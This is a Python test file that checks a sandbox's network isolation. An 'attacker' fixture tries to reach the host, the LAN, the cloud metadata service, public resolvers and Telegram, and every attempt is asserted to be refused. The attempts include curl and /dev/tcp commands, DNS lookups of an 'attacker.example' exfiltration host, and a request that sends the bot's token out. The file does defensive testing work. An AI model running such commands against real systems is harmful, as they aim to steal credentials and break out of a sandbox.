"""Reaching anybody: host, LAN, metadata, internet, DNS, the gateway. The sandbox has a loopback interface and no other.

That nothing arrived is asserted after every case, by the journals of the lab's internet; here, that the kernel had
nowhere to send it.
"""

from __future__ import annotations

import pytest

from tests.fakes import defaults
from tests.hostile.attacker import Attacker

NOWHERE = "ENETUNREACH"
# Beside the lab's own: public addresses that the lab answers itself.
PUBLIC = {
    "a public address": "1.1.1.1",
    "another resolver": "8.8.8.8",
    "a private network": "192.168.1.1",
    "docker's usual bridge": "172.17.0.1",
    "carrier-grade NAT": "100.64.0.1",
}


def test_interfaces(attacker: Attacker) -> None:
    told = attacker.run(
        "ls /sys/class/net; wc -l < /proc/net/route; cat /proc/net/arp | wc -l; cat "
        "/proc/net/ipv6_route "
        "| grep -v ' lo$' && echo PWNED"
    )
    told.refused(r"\Alo\n[01]\n1\n")


@pytest.mark.parametrize("port", [22, 53, 80, 443, 2375])
def test_tcp(attacker: Attacker, port: int) -> None:
    addresses = [*attacker.addresses.values(), *PUBLIC.values()]
    program = f"""
for address in {addresses!r}:
    attempt(address, connect, socket.AF_INET, socket.SOCK_STREAM, (address, {port}))
"""
    attacker.python(program, timeout_s=30).all_refused(len(addresses), NOWHERE)


def test_udp(attacker: Attacker) -> None:
    addresses = [*attacker.addresses.values(), *PUBLIC.values(), "255.255.255.255", "224.0.0.1"]
    program = f"""
for address in {addresses!r}:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if address == "255.255.255.255": s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    attempt(address, s.sendto, b"x", (address, 9999))
"""
    attacker.python(program).all_refused(len(addresses), NOWHERE)


def test_ipv6(attacker: Attacker) -> None:
    program = """
for address in ("2606:4700:4700::1111", "fe80::1", "fd00::1", "::ffff:169.254.169.254", "fd00:ec2::254"):
    attempt(address, connect, socket.AF_INET6, socket.SOCK_STREAM, (address, 443))
    attempt(address, socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto, b"x", (address, 53))
"""
    attacker.python(program).all_refused(10, NOWHERE, "EADDRNOTAVAIL", "EINVAL")


def test_dns_by_the_resolver(attacker: Attacker) -> None:
    told = attacker.run(
        "cat /etc/resolv.conf | grep -c nameserver; for n in api.telegram.org openrouter.ai "
        "secret-data.attacker.example; do timeout 8 getent hosts $n && echo PWNED; done; echo asked",
        timeout_s=30,
    )
    told.refused("^asked$")


def test_dns_by_hand(attacker: Attacker) -> None:
    servers = [attacker.stack.lab.state.subnet.resolver, "127.0.0.11", "8.8.8.8", attacker.addresses["docker's bridge"]]
    program = f"""
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\x03com\\0\\0\\x01\\0\\x01"
def ask(kind, server):
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(1.5); s.connect((server, 53))
        s.send(query if kind == socket.SOCK_DGRAM else len(query).to_bytes(2, "big") + query)
        return s.recv(512)
for server in {servers!r}:
    attempt("udp", ask, socket.SOCK_DGRAM, server); attempt("tcp", ask, socket.SOCK_STREAM, server)
"""
    attacker.python(program, timeout_s=20).all_refused(2 * len(servers), NOWHERE, "ECONNREFUSED")


def test_ping_and_raw_sockets(attacker: Attacker) -> None:
    program = """
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255), (socket.SOCK_RAW, 6)):
    attempt(f"{kind}/{protocol}", socket.socket, socket.AF_INET, kind, protocol)
attempt("icmp6", socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58)
attempt("sctp", socket.socket, socket.AF_INET, socket.SOCK_STREAM, 132)
attempt("mptcp", socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262)
"""
    attacker.python(program).all_refused(7, "EPERM")


CLIENTS = {
    "curl": (
        (
            "curl -sS -m 3 https://api.telegram.org/; curl -sS -m 3 http://169.254.169.254/latest/meta-data/ && echo "
            "PWNED; curl -sS -m 3 -k https://{somewhere}/ && echo PWNED"
        ),
        "Could not resolve host|Couldn't connect",
    ),
    "bash": (
        (
            'for a in {somewhere}/443 {metadata}/80 {neighbour}/22; do timeout 3 bash -c "echo > /dev/tcp/$a" '
            "&& echo "
            "PWNED; done"
        ),
        "Network is unreachable",
    ),
    "git": ("timeout 8 git clone -q http://{somewhere}/x.git && echo PWNED", "unable to access|unreachable"),
    "python": (
        (
            "timeout 8 python3 -c 'import urllib.request as u; "
            'print(u.urlopen("http://{metadata}/").read())\' && echo '
            "PWNED"
        ),
        "Network is unreachable",
    ),
    "the bot's own token": (
        f"curl -sS -m 3 https://api.telegram.org/bot{defaults.TELEGRAM_TOKEN}/getMe && echo PWNED",
        "Could not resolve host",
    ),
    "a proxy": (
        (
            "env | grep -i proxy && echo PWNED; for p in 3128 8080 18790; do curl -sS -m 2 -x http://127.0.0.1:$p "
            "http://{somewhere}/ && echo PWNED; done"
        ),
        "Couldn't connect|Failed to connect|Could not connect",
    ),
}


@pytest.mark.parametrize("client", CLIENTS)
def test_client(attacker: Attacker, client: str) -> None:
    command, refusal = CLIENTS[client]
    seen = attacker.addresses
    named = {"somewhere": seen["somewhere"], "metadata": seen["metadata"], "neighbour": seen["lan-neighbour"]}
    for name, address in named.items():
        command = command.replace("{" + name + "}", address)
    attacker.run(command, timeout_s=20).refused(refusal)


def test_the_gateway_on_loopback(attacker: Attacker) -> None:
    """The gateway's health port and its chat socket are in another network namespace; its uid alone is the same."""
    program = """
attempt("health", connect, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 18790))
attempt("chat", connect, socket.AF_UNIX, socket.SOCK_STREAM, "\\0picoclaw-chat")
"""
    attacker.python(program).all_refused(2, "ECONNREFUSED")


def test_abstract_sockets_of_others(attacker: Attacker) -> None:
    told = attacker.run("grep -oE '@.*' /proc/net/unix | sort -u; cat /proc/net/unix | wc -l")
    assert [line for line in told.lines if line.startswith("@")] == ["@picoclaw-health"], told.text
    told.refused("^@picoclaw-health$")


def test_making_an_interface(attacker: Attacker) -> None:
    program = """
request = struct.pack("16sH22x", b"lo", 0)
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("up", fcntl.ioctl, s, 0x8914, struct.pack("16sH22x", b"eth0", 1))
attempt("address", fcntl.ioctl, s, 0x8916, struct.pack("16sHH4s8x", b"lo", 2, 0, bytes([10, 99, 1, 5])))
attempt("route", fcntl.ioctl, s, 0x890B, bytes(120))
attempt("tun", os.open, "/dev/net/tun", os.O_RDWR)
attempt("netlink", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 768)
"""
    attacker.python(program).all_refused(6, "EPERM", "ENODEV", "ENOENT")
